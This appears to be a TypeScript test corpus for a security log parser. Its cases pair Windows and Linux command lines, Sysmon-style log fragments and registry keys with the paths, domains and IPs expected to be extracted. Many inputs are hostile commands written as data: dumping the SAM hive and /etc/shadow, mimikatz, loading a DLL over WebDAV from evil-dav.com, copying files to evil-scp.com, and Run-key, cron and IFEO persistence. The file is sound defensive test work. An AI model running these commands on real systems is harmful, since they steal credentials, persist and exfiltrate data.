import type { Group } from './corpus.js';

export const FILES: readonly Group[] = [
  {
    name: 'Windows paths', source: 'Microsoft: Naming Files, Paths, and Namespaces; command lines of Sysmon event 1 and Security event 4688',
    cases: String.raw`
C:\Windows\System32\cmd.exe /c whoami
=> windows_path C:\Windows\System32\cmd.exe
"C:\Program Files\Bad Co\my tool.exe" -x C:\Temp\a.ps1;
=> windows_path C:\Program Files\Bad Co\my tool.exe | windows_path C:\Temp\a.ps1
C:\Program Files (x86)\Google\Chrome\Application\chrome.exe --type=renderer
=> windows_path C:\Program Files (x86)\Google\Chrome\Application\chrome.exe
It drops C:\ProgramData\evil and connects to evil-drop.com
=> windows_path C:\ProgramData\evil | domain evil-drop.com
C:\Documents and Settings\bob\Local Settings\Temp\x.tmp
=> windows_path C:\Documents and Settings\bob\Local Settings\Temp\x.tmp
%APPDATA%\Microsoft\evil.exe
=> windows_path %APPDATA%\Microsoft\evil.exe
copy %TEMP%\a.dll %SystemRoot%\System32\b.dll
=> windows_path %TEMP%\a.dll | windows_path %SystemRoot%\System32\b.dll
Start-Process $env:LOCALAPPDATA\Temp\r.exe
=> windows_path $env:LOCALAPPDATA\Temp\r.exe
\\dc01\SYSVOL\x.bat
=> windows_path \\dc01\SYSVOL\x.bat
net use Z: \\203.0.113.17\share /user:a
=> windows_path \\203.0.113.17\share | ipv4 203.0.113.17
rundll32 \\evil-dav.com@SSL\DavWWWRoot\x.dll,Run
=> windows_path \\evil-dav.com@SSL\DavWWWRoot\x.dll | domain evil-dav.com
{"Image":"C:\\Users\\bob\\AppData\\Local\\Temp\\a b.exe","Pid":4}
=> windows_path C:\Users\bob\AppData\Local\Temp\a b.exe
{"path":"\\\\fs01\\public\\x.doc"}
=> windows_path \\fs01\public\x.doc
\Device\HarddiskVolume3\Windows\Temp\p.exe
=> windows_path \Device\HarddiskVolume3\Windows\Temp\p.exe
pipe \\.\pipe\evilpipe created
=> windows_path \\.\pipe\evilpipe
rundll32.exe C:\Users\Public\a.dll,DllMain
=> windows_path C:\Users\Public\a.dll
PATH=C:\Windows;C:\Tools\bin;D:\x
=> windows_path C:\Windows | windows_path C:\Tools\bin | windows_path D:\x
type C:\Windows\System32\drivers\etc\hosts
=> windows_path C:\Windows\System32\drivers\etc\hosts
The file 'C:\Users\bob\My Documents\salary 2025.xlsx' was opened.
=> windows_path C:\Users\bob\My Documents\salary 2025.xlsx
(C:\Temp\x.log)
=> windows_path C:\Temp\x.log
C:/Users/bob/evil.exe was run
=> windows_path C:/Users/bob/evil.exe
ParentImage: C:\Windows\explorer.exe⏎User: CORP\bob
=> windows_path C:\Windows\explorer.exe
c:\one\path\or\another\myprocess -file:"..\another\file" -file:"\\uncpath\file"
=> windows_path c:\one\path\or\another\myprocess | windows_path ..\another\file | windows_path \\uncpath\file
.\mimikatz.exe "privilege::debug"
=> windows_path .\mimikatz.exe
schtasks /create /tr "C:\Temp\t.exe -silent" /sc onlogon
=> windows_path C:\Temp\t.exe
C:\$Recycle.Bin\evil\s.exe
=> windows_path C:\$Recycle.Bin\evil\s.exe
Die Datei C:\Benutzer\Jörg\Schädling.exe wurde gelöscht.
=> windows_path C:\Benutzer\Jörg\Schädling.exe
Файл C:\Пользователи\Иван\вирус.exe удалён
=> windows_path C:\Пользователи\Иван\вирус.exe
文件C:\用户\桌面\病毒.exe已删除
=> windows_path C:\用户\桌面\病毒.exe
Le fichier C:\Utilisateurs\René\facture.pdf.exe, ouvert hier
=> windows_path C:\Utilisateurs\René\facture.pdf.exe
move C:\a\x.exe D:\b\y.exe
=> windows_path C:\a\x.exe | windows_path D:\b\y.exe
C:\PROGRA~1\COMMON~1\x.exe /q
=> windows_path C:\PROGRA~1\COMMON~1\x.exe
explorer.exe /select,C:\Users\bob\Downloads\a.txt
=> windows_path C:\Users\bob\Downloads\a.txt
C:\Temp\a.txt:hidden.exe
=> windows_path C:\Temp\a.txt
\\?\C:\Temp\long.exe
=> windows_path C:\Temp\long.exe
powershell -f C:\Users\bob\.ssh\x.ps1
=> windows_path C:\Users\bob\.ssh\x.ps1
cmd /c C:\Windows\Temp\run.bat&del x
=> windows_path C:\Windows\Temp\run.bat
%ProgramFiles(x86)%\Evil\e.exe
=> windows_path %ProgramFiles(x86)%\Evil\e.exe
'C:\inetpub\wwwroot\evil-site.com\shell.aspx'
=> windows_path C:\inetpub\wwwroot\evil-site.com\shell.aspx`,
  },
  {
    name: 'Linux and macOS paths', source: 'Filesystem Hierarchy Standard 3.0; auditd, bash history, crontab, launchd',
    cases: String.raw`
/bin/bash --file:./bish --file:/bin/bash --file:../../bosh
=> linux_path /bin/bash | linux_path ./bish | linux_path ../../bosh
chmod +x /tmp/.x/miner && /tmp/.x/miner
=> linux_path /tmp/.x/miner
cat /etc/passwd /etc/shadow
=> linux_path /etc/passwd | linux_path /etc/shadow
cp key ~/.ssh/authorized_keys
=> linux_path ~/.ssh/authorized_keys
exe="/usr/bin/python3.11" comm="python3"
=> linux_path /usr/bin/python3.11
* * * * * root /var/tmp/update.sh >/dev/null 2>&1
=> linux_path /var/tmp/update.sh | linux_path /dev/null
less ./README
=> linux_path ./README
./xmrig -c config.json
=> linux_path ./xmrig
/Users/bob/Library/LaunchAgents/com.evil.plist
=> linux_path /Users/bob/Library/LaunchAgents/com.evil.plist
open /Applications/Safari.app
=> linux_path /Applications/Safari.app
dropped to /dev/shm/kworker, then run
=> linux_path /dev/shm/kworker
LD_PRELOAD=/usr/local/lib/libevil.so ls
=> linux_path /usr/local/lib/libevil.so
(/opt/evil/agent)
=> linux_path /opt/evil/agent
tail -f /var/log/auth.log|grep sshd
=> linux_path /var/log/auth.log
scp x evil-scp.com:/tmp/y
=> domain evil-scp.com | linux_path /tmp/y
PATH=/usr/local/bin:/usr/bin:/sbin/x
=> linux_path /usr/local/bin | linux_path /usr/bin | linux_path /sbin/x
#!/usr/bin/env bash
=> linux_path /usr/bin/env
Datei /home/müller/bösartig.sh gefunden
=> linux_path /home/müller/bösartig.sh
файл /tmp/вирус.sh найден
=> linux_path /tmp/вирус.sh
文件 /tmp/evil.sh 已删除
=> linux_path /tmp/evil.sh
/proc/self/exe and /root/.bash_history
=> linux_path /proc/self/exe | linux_path /root/.bash_history
"cwd":"/srv/app","exe":"/srv/app/run"
=> linux_path /srv/app | linux_path /srv/app/run
/home/user/my\ file.txt
=> linux_path /home/user/my file.txt
/tmp/a,/tmp/b;/tmp/c
=> linux_path /tmp/a | linux_path /tmp/b | linux_path /tmp/c
/sbin/insmod /lib/modules/5.15.0/evil.ko
=> linux_path /sbin/insmod | linux_path /lib/modules/5.15.0/evil.ko
crontab -l; ls /etc/cron.d/evil
=> linux_path /etc/cron.d/evil`,
  },
  {
    name: 'registry keys', source: 'Microsoft: Registry Hives; Sysmon events 12 to 14; autoruns as in ATT&CK T1547.001',
    cases: String.raw`
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v evil /d C:\Temp\a.exe
=> registry_key HKCU\Software\Microsoft\Windows\CurrentVersion\Run | windows_path C:\Temp\a.exe
HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell
=> registry_key HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell
HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\evilsvc was created.
=> registry_key HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\evilsvc
Set-ItemProperty -Path HKCU:\Environment -Name x
=> registry_key HKCU:\Environment
Get-Item "HKLM:\Software\Microsoft\Windows Defender\Exclusions"
=> registry_key HKLM:\Software\Microsoft\Windows Defender\Exclusions
\REGISTRY\MACHINE\SOFTWARE\Evil\Key
=> registry_key \REGISTRY\MACHINE\SOFTWARE\Evil\Key
TargetObject: HKU\S-1-5-21-1004336348-1177238915-682003330-512\Software\Evil
=> registry_key HKU\S-1-5-21-1004336348-1177238915-682003330-512\Software\Evil
reg query "HKEY_CURRENT_USER\Control Panel\Desktop" /s
=> registry_key HKEY_CURRENT_USER\Control Panel\Desktop
{"key":"HKLM\\Software\\Evil\\Sub"}
=> registry_key HKLM\Software\Evil\Sub
HKCR\CLSID\{0A29FF9E-7F9C-4437-8B11-F424491E3931}\InprocServer32
=> registry_key HKCR\CLSID\{0A29FF9E-7F9C-4437-8B11-F424491E3931}\InprocServer32
persistence via HKLM\Software\Microsoft\Windows\CurrentVersion\RunOnce and HKCU\Software\Evil
=> registry_key HKLM\Software\Microsoft\Windows\CurrentVersion\RunOnce | registry_key HKCU\Software\Evil
Der Schlüssel HKCU\Software\Böse wurde angelegt.
=> registry_key HKCU\Software\Böse
ключ HKLM\SOFTWARE\Evil2, значение 1
=> registry_key HKLM\SOFTWARE\Evil2
HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe
=> registry_key HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe
Registry::HKEY_USERS\.DEFAULT\Software\Evil3
=> registry_key HKEY_USERS\.DEFAULT\Software\Evil3
(HKCU\Software\Classes\ms-settings\shell\open\command)
=> registry_key HKCU\Software\Classes\ms-settings\shell\open\command
hklm\system\currentcontrolset\control\lsa
=> registry_key hklm\system\currentcontrolset\control\lsa
reg save HKLM\SAM C:\Temp\sam.hiv
=> registry_key HKLM\SAM | windows_path C:\Temp\sam.hiv`,
  },
];
